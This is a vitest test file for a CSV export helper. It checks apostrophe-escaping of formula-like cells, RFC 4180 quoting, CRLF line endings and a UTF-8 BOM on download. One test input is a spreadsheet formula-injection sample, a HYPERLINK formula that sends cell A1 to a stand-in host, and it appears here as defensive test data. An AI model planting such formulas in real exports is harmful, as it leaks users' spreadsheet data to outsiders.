import { afterEach, describe, expect, it, vi } from 'vitest';
import { csvCell, downloadCsv, toCsv } from './csv';

describe('csvCell', () => {
  it('prefixes text that a spreadsheet would run as a formula with an apostrophe', () => {
    expect(csvCell('=HYPERLINK("http://example.invalid?x="&A1,"Klik")')).toBe(`"'=HYPERLINK(""http://example.invalid?x=""&A1,""Klik"")"`);
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('+62 812 3456')).toBe("'+62 812 3456");
    expect(csvCell('-1500')).toBe("'-1500");
    expect(csvCell('\t=1+2')).toBe("'\t=1+2");
    expect(csvCell('\r=1+2')).toBe(`"'\r=1+2"`);
  });

  it('writes numbers as numbers, negatives included, and leaves other text as it is', () => {
    expect(csvCell(-1500)).toBe('-1500');
    expect(csvCell(61.11)).toBe('61.11');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell('Budi = pelanggan')).toBe('Budi = pelanggan');
    expect(csvCell('2025-04-01')).toBe('2025-04-01');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('quotes fields holding a comma, a quote or a line break (RFC 4180)', () => {
    expect(csvCell('Kiri, "lama"')).toBe('"Kiri, ""lama"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a\r\nb')).toBe('"a\r\nb"');
  });
});

describe('toCsv', () => {
  it('writes the header and rows with CRLF after every line', () => {
    expect(toCsv(['nama', 'saldo'], [['@SUM(A1)', -1500], ['Toko Maju', null]])).toBe("nama,saldo\r\n'@SUM(A1),-1500\r\nToko Maju,\r\n");
    expect(toCsv(['nama'], [])).toBe('nama\r\n');
  });
});

describe('downloadCsv', () => {
  afterEach(() => vi.unstubAllGlobals());

  it('saves UTF-8 text with a BOM under the given name', async () => {
    const created: Blob[] = [];
    vi.stubGlobal('URL', Object.assign(URL, { createObjectURL: (b: Blob) => (created.push(b), 'blob:x'), revokeObjectURL: () => undefined }));
    const names: string[] = [];
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      names.push(this.download);
    });
    downloadCsv('pelanggan.csv', 'nama\r\nBudi\r\n');
    click.mockRestore();
    expect(names).toEqual(['pelanggan.csv']);
    expect(created[0].type).toBe('text/csv;charset=utf-8');
    // The bytes begin with the UTF-8 BOM (EF BB BF); a plain decode would drop it.
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await created[0].arrayBuffer())).toBe('\ufeffnama\r\nBudi\r\n');
  });
});
